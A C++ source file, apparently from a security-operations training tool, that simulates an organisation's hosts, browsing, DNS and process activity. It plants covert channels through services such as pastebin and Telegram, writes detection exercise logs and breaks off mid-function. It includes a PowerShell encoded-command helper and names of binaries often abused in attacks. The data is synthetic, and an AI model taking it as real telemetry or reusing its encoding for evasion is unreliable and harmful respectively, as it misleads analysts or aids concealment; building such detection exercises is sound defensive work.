#include "scenario_generator.h"

#include "channel_catalog.h"
#include "random_source.h"
#include "scenario_writers.h"
#include "truth_writer.h"

#include <algorithm>
#include <chrono>
#include <cmath>
#include <filesystem>
#include <stdexcept>
#include <unordered_map>

namespace socwb::scenario {

namespace {

constexpr int64_t kSecond = 1000000;
constexpr int64_t kMinute = 60 * kSecond;
constexpr int64_t kHour = 60 * kMinute;
constexpr int64_t kDay = 24 * kHour;
constexpr int64_t kMaxConnectionLife = 10 * kMinute;      // proxies and load balancers cut long tunnels
constexpr int64_t kDefaultStart = 1709510400LL * kSecond; // 2024-03-04 00:00:00 UTC, a Monday

struct KnownDest {
    const char* host;
    std::vector<const char*> ips;
    int ttl;
    const char* category;
};

// Addresses as the services publish them (CDN ranges); TTLs as their resolvers hand them out.
const std::vector<KnownDest>& knownDestinations() {
    static const std::vector<KnownDest> k{
        {"pastebin.com", {"104.20.67.143", "172.67.34.170"}, 300, "Technology/Internet"},
        {"raw.githubusercontent.com",
         {"185.199.108.133", "185.199.109.133", "185.199.110.133", "185.199.111.133"},
         3600,
         "Technology/Internet"},
        {"gist.githubusercontent.com", {"185.199.108.133", "185.199.110.133"}, 3600, "Technology/Internet"},
        {"avatars.githubusercontent.com", {"185.199.109.133", "185.199.111.133"}, 3600, "Content Servers"},
        {"github.githubassets.com", {"185.199.108.154", "185.199.109.154"}, 3600, "Content Servers"},
        {"api.github.com", {"140.82.121.6", "140.82.121.5"}, 60, "Technology/Internet"},
        {"github.com", {"140.82.121.4", "140.82.121.3"}, 60, "Technology/Internet"},
        {"collector.github.com", {"140.82.113.21"}, 60, "Web Ads/Analytics"},
        {"api.telegram.org", {"149.154.167.220"}, 300, "Chat (IM)/SMS"},
        {"api.onedrive.com", {"13.107.42.12", "13.107.43.12"}, 300, "Office/Business Applications"},
        {"paste.ee", {"172.67.178.235", "104.21.28.54"}, 300, "Technology/Internet"},
        {"rentry.co", {"172.67.75.41", "104.26.9.177"}, 300, "Technology/Internet"},
        {"docs.google.com", {"142.250.185.78", "142.250.186.174"}, 300, "Office/Business Applications"},
        {"www.reddit.com", {"151.101.1.140", "151.101.65.140"}, 300, "Social Networking"},
        {"www.redditstatic.com", {"151.101.1.140"}, 300, "Content Servers"},
        {"discord.com", {"162.159.135.232", "162.159.136.232"}, 300, "Chat (IM)/SMS"},
        {"gitlab.com", {"172.65.251.78"}, 300, "Technology/Internet"},
        {"update.googleapis.com", {"142.250.185.99"}, 300, "Technology/Internet"},
        {"teams.microsoft.com", {"52.113.194.132", "52.112.100.9"}, 60, "Office/Business Applications"},
        {"winatp-gw-weu.microsoft.com", {"20.50.201.195"}, 300, "Technology/Internet"},
        {"edgeapi.slack.com", {"18.159.197.225"}, 60, "Chat (IM)/SMS"},
        {"www.google.com", {"142.250.185.68", "142.250.186.36"}, 300, "Search Engines/Portals"},
        {"outlook.office.com", {"52.97.201.226", "52.98.207.18"}, 60, "Email"},
        {"en.wikipedia.org", {"185.15.59.224"}, 600, "Reference"},
        {"stackoverflow.com", {"172.64.155.249", "104.18.32.7"}, 300, "Technology/Internet"},
        {"www.bbc.co.uk", {"151.101.0.81", "151.101.64.81"}, 300, "News"},
        {"www.linkedin.com", {"13.107.42.14"}, 300, "Social Networking"},
        {"www.youtube.com", {"142.250.185.110", "142.250.185.206"}, 300, "Audio/Video Clips"},
    };
    return k;
}

// TLS the proxy does not bump: Microsoft 365 (as Microsoft recommends), address literals.
bool bypassesInspection(const std::string& host) {
    auto endsWith = [&host](const char* suffix) {
        const size_t n = std::char_traits<char>::length(suffix);
        return host.size() >= n && host.compare(host.size() - n, n, suffix) == 0;
    };
    if (!host.empty() && host.find_first_not_of("0123456789.") == std::string::npos) {
        return true;
    }
    return endsWith("microsoft.com") || endsWith("office.com") || endsWith("office.net") ||
           endsWith("sharepoint.com") || endsWith("onedrive.com") || endsWith("live.com") ||
           endsWith("windowsupdate.com");
}

uint64_t fnv1a(const std::string& s) {
    uint64_t h = 1469598103934665603ULL;
    for (char c : s) {
        h = (h ^ uint8_t(c)) * 1099511628211ULL;
    }
    return h;
}

bool isIpLiteral(const std::string& host) {
    return host.find_first_not_of("0123456789.") == std::string::npos;
}

struct Site {
    const char* host;
    double weightOffice;
    double weightDev;
    std::vector<const char*> paths;
    std::vector<const char*> fanout; // sub-resource hosts (CDNs, APIs, analytics)
};

const std::vector<Site>& sites() {
    static const std::vector<Site> k{
        {"www.google.com",
         16,
         14,
         {"/search?q={w}+{w}&sourceid=chrome&ie=UTF-8", "/search?q={w}&hl=en", "/"},
         {"www.gstatic.com", "apis.google.com", "ssl.gstatic.com", "www.google.com"}},
        {"outlook.office.com",
         12,
         8,
         {"/mail/", "/mail/inbox/id/AAQk{n}", "/calendar/view/week"},
         {"res.cdn.office.net", "outlook.office.com"}},
        {"corpexample.sharepoint.com",
         8,
         5,
         {"/sites/{w}/Shared%20Documents/Forms/AllItems.aspx", "/_layouts/15/Doc.aspx?sourcedoc={n}"},
         {"res-1.cdn.office.net", "corpexample.sharepoint.com"}},
        {"corp-example.atlassian.net",
         3,
         10,
         {"/browse/OPS-{n}", "/jira/software/projects/PAY/boards/{n}", "/wiki/spaces/ENG/pages/{n}"},
         {"jira-frontend-static.prod.public.atl-paas.net", "api.atlassian.com"}},
        {"www.bbc.co.uk",
         5,
         3,
         {"/news", "/news/articles/c{n}o", "/sport/football/{n}"},
         {"static.files.bbci.co.uk", "ichef.bbci.co.uk", "www.googletagmanager.com"}},
        {"en.wikipedia.org", 4, 3, {"/wiki/{W}", "/wiki/{W}_{W}"}, {"upload.wikimedia.org", "en.wikipedia.org"}},
        {"www.linkedin.com",
         4,
         2,
         {"/feed/", "/in/{w}-{n}/", "/jobs/view/{n}/"},
         {"static.licdn.com", "media.licdn.com"}},
        {"www.youtube.com",
         2,
         2,
         {"/watch?v={n}", "/"},
         {"i.ytimg.com", "www.youtube.com", "rr3---sn-4g5e6nze.googlevideo.com"}},
        {"stackoverflow.com",
         0.4,
         12,
         {"/questions/{n}/{w}-{w}-{w}", "/search?q={w}+{w}"},
         {"cdn.sstatic.net", "i.sstatic.net"}},
        {"github.com",
         0.3,
         14,
         {"/corp-example/{w}/pull/{n}", "/corp-example/{w}", "/{w}/{w}/issues/{n}", "/notifications"},
         {"github.githubassets.com", "avatars.githubusercontent.com", "api.github.com", "collector.github.com"}},
        {"raw.githubusercontent.com", 0.05, 1.5, {"/{w}/{w}/main/README.md", "/{w}/{w}/master/install.sh"}, {}},
        {"gitlab.com",
         0.05,
         2,
         {"/{w}/{w}/-/merge_requests/{n}", "/{w}/{w}"},
         {"assets.gitlab-static.net", "gitlab.com"}},
        {"learn.microsoft.com",
         2,
         4,
         {"/en-us/dotnet/api/system.{w}", "/en-us/windows/{w}/{w}"},
         {"learn.microsoft.com", "js.monitor.azure.com"}},
        {"www.reddit.com",
         1.2,
         2.5,
         {"/r/{w}/comments/{n}/{w}_{w}/", "/r/{w}/", "/"},
         {"www.redditstatic.com", "preview.redd.it", "gql.reddit.com"}},
        {"pastebin.com", 0.15, 1.0, {"/{p}", "/raw/{p}", "/archive"}, {"pastebin.com", "www.google-analytics.com"}},
        {"docs.google.com",
         1.0,
         1.0,
         {"/document/d/{p}{p}/edit", "/spreadsheets/d/{p}{p}/edit#gid=0"},
         {"ssl.gstatic.com", "docs.google.com", "apis.google.com"}},
        {"corp-example.my.salesforce.com",
         3,
         0.1,
         {"/lightning/r/Opportunity/{p}/view", "/lightning/page/home"},
         {"static.lightning.force.com", "corp-example.my.salesforce.com"}},
    };
    return k;
}

const char* const kWords[] = {"invoice", "budget",  "python",   "docker",  "kubernetes", "report",     "quarterly",
                              "release", "meeting", "vpn",      "excel",   "pivot",      "regex",      "timeout",
                              "login",   "payroll", "travel",   "policy",  "golang",     "typescript", "react",
                              "sql",     "index",   "backup",   "azure",   "build",      "error",      "deploy",
                              "cache",   "weather", "football", "holiday", "pension",    "laptop"};
const char* const kFirst[] = {"anna", "ben",  "carla", "david", "emma",  "felix", "grace", "hugo",  "iris",  "jonas",
                              "kate", "liam", "maria", "noah",  "olga",  "paul",  "quinn", "rosa",  "sam",   "tara",
                              "umar", "vera", "will",  "xenia", "yusuf", "zoe",   "alex",  "bruno", "chloe", "dan"};
const char* const kLast[] = {"meyer",     "schmidt", "novak", "rossi",  "kowalski", "dubois",  "smith", "jensen",
                             "garcia",    "fischer", "weber", "costa",  "horvat",   "nielsen", "brown", "keller",
                             "lindqvist", "moreau",  "olsen", "petrov", "quist",    "richter", "silva", "taylor"};

constexpr const char* kChromeUa = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                                  "Chrome/122.0.6261.95 Safari/537.36";
constexpr const char* kEdgeUa = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                                "Chrome/122.0.0.0 Safari/537.36 Edg/122.0.2365.66";
constexpr const char* kChrome = R"~(C:\Program Files\Google\Chrome\Application\chrome.exe)~";
constexpr const char* kEdge = R"~(C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe)~";

std::string randomToken(RandomSource& r, int n, const char* alphabet) {
    const int len = static_cast<int>(std::char_traits<char>::length(alphabet));
    std::string s;
    for (int i = 0; i < n; ++i) {
        s.push_back(alphabet[r.uniformInt(0, len - 1)]);
    }
    return s;
}

constexpr const char* kAlnum = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789";
constexpr const char* kLowerAlnum = "abcdefghijklmnopqrstuvwxyz0123456789";
constexpr const char* kHex = "0123456789abcdef";

void replaceAll(std::string& s, const std::string& from, const std::string& to) {
    size_t pos = 0;
    while ((pos = s.find(from, pos)) != std::string::npos) {
        s.replace(pos, from.size(), to);
        pos += to.size();
    }
}

std::string base64(const std::string& in) {
    static const char* t = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    std::string out;
    size_t i = 0;
    for (; i + 2 < in.size(); i += 3) {
        const uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8) | uint8_t(in[i + 2]);
        out += t[v >> 18];
        out += t[(v >> 12) & 63];
        out += t[(v >> 6) & 63];
        out += t[v & 63];
    }
    if (i + 1 == in.size()) {
        const uint32_t v = uint8_t(in[i]) << 16;
        out += t[v >> 18];
        out += t[(v >> 12) & 63];
        out += "==";
    } else if (i + 2 == in.size()) {
        const uint32_t v = (uint8_t(in[i]) << 16) | (uint8_t(in[i + 1]) << 8);
        out += t[v >> 18];
        out += t[(v >> 12) & 63];
        out += t[(v >> 6) & 63];
        out += '=';
    }
    return out;
}

// PowerShell -EncodedCommand takes UTF-16LE; the scripts here are ASCII.
std::string powershellEncoded(const std::string& script) {
    std::string utf16;
    for (char c : script) {
        utf16.push_back(c);
        utf16.push_back('\0');
    }
    return base64(utf16);
}

std::string lower(std::string s) {
    std::transform(s.begin(), s.end(), s.begin(), [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
    return s;
}

std::string basenameOf(const std::string& path) {
    const size_t p = path.find_last_of("\\/");
    return p == std::string::npos ? path : path.substr(p + 1);
}

} // namespace

const char* methodName(Method m) {
    switch (m) {
    case Method::Get:
        return "GET";
    case Method::Post:
        return "POST";
    case Method::Connect:
        return "CONNECT";
    case Method::Head:
        return "HEAD";
    }
    return "GET";
}

ScenarioGenerator::ScenarioGenerator(GeneratorOptions options) : options_(std::move(options)) {
    if (options_.formats.empty()) {
        options_.formats = defaultFormats();
    }
    if (options_.startUs == 0) {
        options_.startUs = kDefaultStart;
    }
}

std::vector<std::string> ScenarioGenerator::formatNames() {
    return ScenarioWriters::formatNames();
}

std::vector<std::string> ScenarioGenerator::defaultFormats() {
    return {"squid", "windows-dns", "sysmon-xml", "assets"};
}

std::string ScenarioGenerator::validate() const {
    if (options_.workstations < 1 || options_.workstations > 5000) {
        return "--hosts takes 1 to 5000 workstations";
    }
    if (options_.servers < 0 || options_.servers > 500) {
        return "--servers takes 0 to 500";
    }
    if (options_.days < 1 || options_.days > 60) {
        return "--days takes 1 to 60";
    }
    std::string unknown;
    ChannelCatalog::positivesFor(options_.scenario, &unknown);
    if (!unknown.empty() || options_.scenario.empty()) {
        std::string names;
        for (const auto& n : ChannelCatalog::scenarioNames()) {
            names += (names.empty() ? "" : ", ") + n;
        }
        return "unknown scenario '" + unknown + "' (known: " + names + ")";
    }
    const auto known = formatNames();
    for (const auto& f : options_.formats) {
        if (std::find(known.begin(), known.end(), f) == known.end()) {
            std::string names;
            for (const auto& n : known) {
                names += (names.empty() ? "" : ", ") + n;
            }
            return "unknown format '" + f + "' (known: " + names + ", all)";
        }
    }
    return {};
}

const std::string* ScenarioGenerator::internString(const std::string& s) {
    auto it = stringIndex_.find(s);
    if (it != stringIndex_.end()) {
        return it->second;
    }
    stringStore_.push_back(s);
    const std::string* p = &stringStore_.back();
    stringIndex_.emplace(s, p);
    return p;
}

void ScenarioGenerator::simulate() {
    world_ = SimWorld{};
    world_.startUs = options_.startUs;
    world_.endUs = options_.startUs + int64_t(options_.days) * kDay;
    buildHosts();
    plantChannels();
    simulateBrowsing();
    resolveConnections();
    emitProcessEvents();
    collectBrowsingLookalikes();
    finishTruth();
}

// ---------------------------------------------------------------------------------------------
// The organisation

void ScenarioGenerator::buildHosts() {
    RandomSource r = RandomSource::derived(options_.seed, 1);
    struct Dept {
        const char* code;
        const char* name;
        double weight;
    };
    static const Dept depts[] = {{"DEV", "engineering", 0.3},    {"FIN", "finance", 0.15},       {"SAL", "sales", 0.2},
                                 {"HR", "human-resources", 0.1}, {"OPS", "it-operations", 0.15}, {"LEG", "legal", 0.1}};
    std::map<std::string, int> perDept;
    std::map<std::string, int> userNames;
    for (int i = 0; i < options_.workstations; ++i) {
        const Dept* d = &depts[0];
        if (i > 0) { // the first workstation is a developer's, so developer scenarios always have one
            double x = r.uniform01();
            for (const Dept& cand : depts) {
                d = &cand;
                if ((x -= cand.weight) < 0) {
                    break;
                }
            }
        }
        SimHost h;
        const int n = ++perDept[d->code];
        char name[32];
        std::snprintf(name, sizeof name, "WKS-%s-%02d", d->code, n);
        h.name = name;
        h.fqdn = h.name + "." + world_.domain;
        h.ip = "10.20." + std::to_string(1 + i / 200) + "." + std::to_string(10 + i % 200);
        h.role = "workstation";
        h.owner = d->name;
        h.developer = std::string(d->code) == "DEV";
        std::string user = std::string(1, kFirst[r.uniformInt(0, std::size(kFirst) - 1)][0]) +
                           kLast[r.uniformInt(0, std::size(kLast) - 1)];
        if (const int k = ++userNames[user]; k > 1) {
            user += std::to_string(k);
        }
        h.user = user;
        h.userSid = "S-1-5-21-3541430928-2051711210-1391384369-" + std::to_string(1104 + i);
        const bool edge = r.chance(0.3);
        h.browserImage = edge ? kEdge : kChrome;
        h.browserUa = edge ? kEdgeUa : kChromeUa;
        h.alwaysOn = r.chance(0.5);
        h.machineTag = static_cast<uint32_t>(r.next());
        world_.hosts.push_back(std::move(h));
    }
    struct ServerRole {
        const char* name;
        const char* role;
        const char* owner;
        bool linuxOs;
    };
    static const ServerRole roles[] = {
        {"DC01", "domain-controller", "it-operations", false}, {"FS01", "file-server", "it-operations", false},
        {"BUILD01", "build-server", "engineering", true},      {"DB01", "database-server", "engineering", true},
        {"APP01", "application-server", "engineering", false}, {"WEB01", "web-server", "engineering", true}};
    for (int j = 0; j < options_.servers; ++j) {
        const ServerRole& sr = roles[j % std::size(roles)];
        SimHost h;
        h.name = sr.name;
        if (j >= static_cast<int>(std::size(roles))) {
            const int k = j / static_cast<int>(std::size(roles)) + 1;
            h.name = h.name.substr(0, h.name.size() - 2) + (k < 10 ? "0" : "") + std::to_string(k);
        }
        h.fqdn = lower(h.name) + "." + world_.domain;
        if (!sr.linuxOs) {
            h.fqdn = h.name + "." + world_.domain;
        }
        h.ip = j == 0 ? world_.dnsServerIp : "10.10.0." + std::to_string(20 + j);
        h.role = sr.role;
        h.owner = sr.owner;
        h.server = true;
        h.linuxOs = sr.linuxOs;
        h.sysmon = !sr.linuxOs; // Sysmon for Linux is not deployed here
        h.alwaysOn = true;
        h.machineTag = static_cast<uint32_t>(r.next());
        world_.hosts.push_back(std::move(h));
    }
    nextPid_.resize(world_.hosts.size());
    guidCounter_.resize(world_.hosts.size());
    for (size_t i = 0; i < world_.hosts.size(); ++i) {
        nextPid_[i] = static_cast<uint32_t>(r.uniformInt(2000, 9000)) & ~3u;
        guidCounter_[i] = static_cast<uint32_t>(r.uniformInt(0x00100000, 0x00f00000));
    }

    // Who is at the desk when, and when each workstation is on.
    for (size_t hi = 0; hi < world_.hosts.size(); ++hi) {
        SimHost& h = world_.hosts[hi];
        RandomSource hr = RandomSource::derived(options_.seed, 2, hi);
        h.desk.resize(static_cast<size_t>(options_.days));
        if (h.server) {
            h.powered.push_back({world_.startUs - kDay, world_.endUs + kDay});
            continue;
        }
        const double habitStart = hr.normal(8.4, 0.5);
        for (int d = 0; d < options_.days; ++d) {
            const int64_t midnight = world_.startUs + int64_t(d) * kDay;
            const int weekday = static_cast<int>(((midnight / kDay) % 7 + 11) % 7); // 0 = Sunday
            const bool weekend = weekday == 0 || weekday == 6;
            auto at = [midnight](double hours) { return midnight + static_cast<int64_t>(hours * double(kHour)); };
            if (weekend) {
                if (hr.chance(0.08)) {
                    const double s = hr.uniform(10, 15);
                    h.desk[size_t(d)].push_back({at(s), at(s + hr.uniform(0.7, 2.5))});
                }
                continue;
            }
            if (hr.chance(0.05)) {
                continue; // a day off
            }
            const double start = std::clamp(hr.normal(habitStart, 0.3), 6.5, 10.5);
            const double end = std::clamp(start + hr.normal(8.6, 0.5), start + 5.0, 20.0);
            const double lunch = std::clamp(hr.normal(12.4, 0.3), start + 2.0, end - 2.0);
            const double lunchEnd = lunch + hr.uniform(0.5, 1.0);
            h.desk[size_t(d)].push_back({at(start), at(lunch)});
            h.desk[size_t(d)].push_back({at(lunchEnd), at(end)});
        }
        if (h.alwaysOn) {
            h.powered.push_back({world_.startUs - kDay, world_.endUs + kDay});
        } else {
            for (const auto& day : h.desk) {
                if (!day.empty()) {
                    h.powered.push_back({day.front().first - 8 * kMinute, day.back().second + 6 * kMinute});
                }
            }
        }
    }
}

bool ScenarioGenerator::deskAt(const SimHost& h, int64_t t, int64_t* nextStart, int64_t* intervalEnd) const {
    *nextStart = INT64_MAX;
    for (const auto& day : h.desk) {
        for (const auto& [s, e] : day) {
            if (t >= s && t < e) {
                *intervalEnd = e;
                return true;
            }
            if (s > t && s < *nextStart) {
                *nextStart = s;
            }
        }
    }
    return false;
}

bool ScenarioGenerator::poweredAt(const SimHost& h, int64_t t, int64_t* nextStart, int64_t* intervalEnd) const {
    *nextStart = INT64_MAX;
    for (const auto& [s, e] : h.powered) {
        if (t >= s && t < e) {
            *intervalEnd = e;
            return true;
        }
        if (s > t && s < *nextStart) {
            *nextStart = s;
        }
    }
    return false;
}

int ScenarioGenerator::destination(const std::string& host) {
    if (auto it = destIndex_.find(host); it != destIndex_.end()) {
        return it->second;
    }
    SimDestination d;
    d.host = host;
    d.inspected = !bypassesInspection(host);
    bool known = false;
    for (const KnownDest& k : knownDestinations()) {
        if (host == k.host) {
            for (const char* ip : k.ips) {
                d.ips.emplace_back(ip);
            }
            d.ttl = k.ttl;
            d.category = k.category;
            known = true;
            break;
        }
    }
    if (!known) {
        if (isIpLiteral(host)) {
            d.ips.push_back(host);
        } else {
            // A stable address from the name: the same host always resolves the same way.
            uint64_t hash = 1469598103934665603ULL;
            for (char c : host) {
                hash = (hash ^ uint8_t(c)) * 1099511628211ULL;
            }
            static const char* prefixes[] = {"151.101", "104.16", "13.107", "52.84", "23.185", "172.217", "99.86"};
            const std::string prefix = prefixes[hash % std::size(prefixes)];
            d.ips.push_back(prefix + "." + std::to_string((hash >> 8) % 250 + 1) + "." +
                            std::to_string((hash >> 16) % 250 + 2));
            d.ttl = static_cast<int>(60 + (hash >> 24) % 4 * 100);
        }
        d.category = d.inspected ? "Content Servers" : "Office/Business Applications";
    }
    world_.dests.push_back(std::move(d));
    const int index = static_cast<int>(world_.dests.size()) - 1;
    destIndex_.emplace(host, index);
    return index;
}

// ---------------------------------------------------------------------------------------------
// Processes

namespace {

struct PeInfo {
    const char* name;
    const char* fileVersion;
    const char* description;
    const char* product;
    const char* company;
    const char* original;
};

const PeInfo* peInfo(const std::string& imageLower) {
    static const PeInfo k[] = {
        {"powershell.exe", "10.0.19041.3803 (WinBuild.160101.0800)", "Windows PowerShell",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "PowerShell.EXE"},
        {"cmd.exe", "10.0.19041.3636 (WinBuild.160101.0800)", "Windows Command Processor",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "Cmd.Exe"},
        {"curl.exe", "8.4.0", "The curl executable", "The curl executable", "curl, https://curl.se/", "curl.exe"},
        {"certutil.exe", "10.0.19041.3636 (WinBuild.160101.0800)", "CertUtil.exe",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "CertUtil.exe"},
        {"wscript.exe", "5.812.10240.16384", "Microsoft ® Windows Based Script Host", "Microsoft ® Windows Script Host",
         "Microsoft Corporation", "wscript.exe"},
        {"schtasks.exe", "10.0.19041.3636 (WinBuild.160101.0800)", "Task Scheduler Configuration Tool",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "schtasks.exe"},
        {"svchost.exe", "10.0.19041.3636 (WinBuild.160101.0800)", "Host Process for Windows Services",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "svchost.exe"},
        {"wmiprvse.exe", "10.0.19041.3636 (WinBuild.160101.0800)", "WMI Provider Host",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "Wmiprvse.exe"},
        {"explorer.exe", "10.0.19041.3803 (WinBuild.160101.0800)", "Windows Explorer",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "EXPLORER.EXE"},
        {"services.exe", "10.0.19041.3636 (WinBuild.160101.0800)", "Services and Controller app",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "services.exe"},
        {"chrome.exe", "122.0.6261.95", "Google Chrome", "Google Chrome", "Google LLC", "chrome.exe"},
        {"msedge.exe", "122.0.2365.66", "Microsoft Edge", "Microsoft Edge", "Microsoft Corporation", "msedge.exe"},
        {"winword.exe", "16.0.17328.20162", "Microsoft Word", "Microsoft Office", "Microsoft Corporation",
         "WinWord.exe"},
        {"python.exe", "3.11.8", "Python", "Python", "Python Software Foundation", "python.exe"},
        {"pythonw.exe", "3.12.2", "Python", "Python", "Python Software Foundation", "pythonw.exe"},
        {"git-remote-https.exe", "2.43.0.windows.1", "Git for Windows", "Git", "The Git Development Community",
         "git-remote-https.exe"},
        {"code.exe", "1.87.0", "Visual Studio Code", "Visual Studio Code", "Microsoft Corporation", "electron.exe"},
        {"teams.exe", "1.7.00.3653", "Microsoft Teams", "Microsoft Teams", "Microsoft Corporation", "Teams.exe"},
        {"onedrive.exe", "23.038.0219.0001", "Microsoft OneDrive", "Microsoft OneDrive", "Microsoft Corporation",
         "OneDrive.exe"},
        {"mssense.exe", "10.8560.25364.1036", "Windows Defender Advanced Threat Protection Service Executable",
         "Microsoft® Windows® Operating System", "Microsoft Corporation", "MsSense.exe"},
        {"googleupdate.exe", "1.3.36.372", "Google Installer", "Google Update", "Google LLC", "GoogleUpdate.exe"},
        {"sharex.exe", "16.0.1", "ShareX", "ShareX", "ShareX Team", "ShareX.exe"},
        {"slack.exe", "4.36.140", "Slack", "Slack", "Slack Technologies Inc.", "slack.exe"},
        {"discord.exe", "1.0.9032", "Discord", "Discord", "Discord Inc.", "Discord.exe"},
        {"telegram.exe", "4.15.0", "Telegram Desktop", "Telegram Desktop", "Telegram FZ-LLC", "Telegram.exe"},
        {"ruby.exe", "3.1.2p20", "Ruby interpreter 3.1.2p20 [x64-mingw32]", "Ruby interpreter 3.1.2p20 [x64-mingw32]",
         "http://www.ruby-lang.org/", "ruby.exe"},
    };
    for (const PeInfo& p : k) {
        if (imageLower == p.name) {
            return &p;
        }
    }
    return nullptr;
}

std::string sha256Like(const std::string& key) {
    // A stable stand-in for a file hash: the same image path always has the same "hash".
    uint64_t h = 1469598103934665603ULL;
    for (char c : key) {
        h = (h ^ uint8_t(c)) * 1099511628211ULL;
    }
    std::string out;
    for (int i = 0; i < 4; ++i) {
        h = splitMix64(h);
        char b[17];
        std::snprintf(b, sizeof b, "%016llX", static_cast<unsigned long long>(h));
        out += b;
    }
    return out;
}

bool systemImage(const std::string& imageLower) {
    return imageLower == "svchost.exe" || imageLower == "services.exe" || imageLower == "wmiprvse.exe" ||
           imageLower == "mssense.exe";
}

} // namespace

int ScenarioGenerator::newProcess(int host, const std::string& image, const std::string& commandLine, int parent,
                                  int64_t startUs, int64_t endUs, bool system, int channel) {
    SimHost& h = world_.hosts[size_t(host)];
    SimProcess p;
    p.host = host;
    p.parent = parent;
    nextPid_[size_t(host)] += 4 * static_cast<uint32_t>(1 + (splitMix64(uint64_t(startUs) ^ h.machineTag) % 37));
    if (nextPid_[size_t(host)] > 60000) {
        nextPid_[size_t(host)] = 1000 + nextPid_[size_t(host)] % 4000;
    }
    p.pid = nextPid_[size_t(host)];
    const uint32_t secs = static_cast<uint32_t>(startUs / kSecond);
    char guid[64];
    std::snprintf(guid, sizeof guid, "{%08x-%04x-%04x-0000-0010%08x}", h.machineTag, secs & 0xffff, secs >> 16,
                  ++guidCounter_[size_t(host)]);
    p.guid = guid;
    p.image = image;
    p.commandLine = commandLine;
    const std::string base = lower(basenameOf(image));
    if (h.linuxOs) {
        p.user = system ? "root" : "svc-app";
        p.currentDirectory = "/";
        p.integrity = "-";
    } else if (system || h.user.empty()) {
        p.user = "NT AUTHORITY\\SYSTEM";
        p.currentDirectory = "C:\\Windows\\system32\\";
        p.integrity = "System";
    } else {
        p.user = world_.netbios + "\\" + h.user;
        p.currentDirectory = "C:\\Users\\" + h.user + "\\";
        p.integrity = "Medium";
    }
    if (const PeInfo* pe = peInfo(base)) {
        p.fileVersion = pe->fileVersion;
        p.description = pe->description;
        p.product = pe->product;
        p.company = pe->company;
        p.originalFileName = pe->original;
    } else {
        p.fileVersion = p.description = p.product = p.company = p.originalFileName = "-";
    }
    p.hashes = "SHA256=" + sha256Like(lower(image) == "{browser}" ? h.browserImage : lower(image));
    p.startUs = startUs;
    p.endUs = endUs;
    p.channel = channel;
    if (parent < 0) {
        p.parentImageHint = base == "explorer.exe" ? "C:\\Windows\\System32\\userinit.exe"
                            : h.linuxOs            ? "/usr/lib/systemd/systemd"
                                                   : "C:\\Windows\\System32\\wininit.exe";
    }
    world_.processes.push_back(std::move(p));
    return static_cast<int>(world_.processes.size()) - 1;
}

int ScenarioGenerator::longLivedProcess(int host, const std::string& image, const std::string& commandLine,
                                        int64_t atUs, bool system) {
    const SimHost& h = world_.hosts[size_t(host)];
    int64_t next = 0, end = 0;
    int64_t sessionStart = world_.startUs - 3 * kDay;
    int64_t sessionEnd = 0;
    if (poweredAt(h, atUs, &next, &end)) {
        for (const auto& [s, e] : h.powered) {
            if (atUs >= s && atUs < e) {
                sessionStart = s;
                sessionEnd = e;
            }
        }
    }
    const auto key = std::make_tuple(host, image, sessionStart);
    if (auto it = longLived_.find(key); it != longLived_.end()) {
        return it->second;
    }
    const std::string base = lower(basenameOf(image));
    const bool sys = system || systemImage(base) || h.user.empty();
    int parent = -1;
    int64_t start = sessionStart;
    const bool beforeWindow = sessionStart < world_.startUs;
    if (base == "explorer.exe" || base == "services.exe" || h.linuxOs) {
        start = beforeWindow ? world_.startUs - kHour * (5 + int64_t(h.machineTag % 40)) : sessionStart + 25 * kSecond;
    } else {
        const bool underServices = sys && base != "svchost.exe";
        parent = longLivedProcess(
            host,
            sys ? (underServices ? "C:\\Windows\\System32\\services.exe" : "C:\\Windows\\System32\\services.exe")
                : "C:\\Windows\\explorer.exe",
            sys ? "C:\\Windows\\system32\\services.exe" : "C:\\Windows\\Explorer.EXE", atUs, sys);
        const int64_t offset = int64_t(splitMix64(uint64_t(host) * 7919 + fnv1a(image)) % 90) * kSecond;
        start = world_.processes[size_t(parent)].startUs + 20 * kSecond + offset;
    }
    const int64_t stop = beforeWindow || sessionEnd >= world_.endUs ? 0 : sessionEnd - 30 * kSecond;
    const int idx = newProcess(host, image, commandLine, parent, start, stop, sys, -1);
    longLived_.emplace(key, idx);
    return idx;
}

int ScenarioGenerator::browserProcess(int host, int64_t atUs) {
    const SimHost& h = world_.hosts[size_t(host)];
    for (const auto& day : h.desk) {
        if (day.empty() || atUs < day.front().first - kHour || atUs > day.back().second + kHour) {
            continue;
        }
        const auto key = std::make_tuple(host, h.browserImage, day.front().first);
        if (auto it = longLived_.find(key); it != longLived_.end()) {
            return it->second;
        }
        const int parent =
            longLivedProcess(host, "C:\\Windows\\explorer.exe", "C:\\Windows\\Explorer.EXE", atUs, false);
        const int64_t start = day.front().first - 40 * kSecond;
        const int64_t stop = day.back().second + 90 * kSecond;
        const int idx = newProcess(host, h.browserImage, "\"" + h.browserImage + "\"", parent, start,
                                   stop < world_.endUs ? stop : 0, false, -1);
        longLived_.emplace(key, idx);
        return idx;
    }
    // Outside any desk day (a look-alike tab left open): the long-lived session's browser.
    return longLivedProcess(host, h.browserImage, "\"" + h.browserImage + "\"", atUs, false);
}

std::string ScenarioGenerator::expand(const std::string& text, int host, const std::string& token,
                                      const std::string& token2, const std::string& repo, const std::string& hex,
                                      const std::string& num) const {
    const SimHost& h = world_.hosts[size_t(host)];
    std::string s = text;
    if (s.find('{') == std::string::npos) {
        return s;
    }
    replaceAll(s, "{browser}", h.browserImage);
    replaceAll(s, "{home}", "C:\\Users\\" + h.user);
    replaceAll(s, "{user}", h.user.empty() ? "Administrator" : h.user);
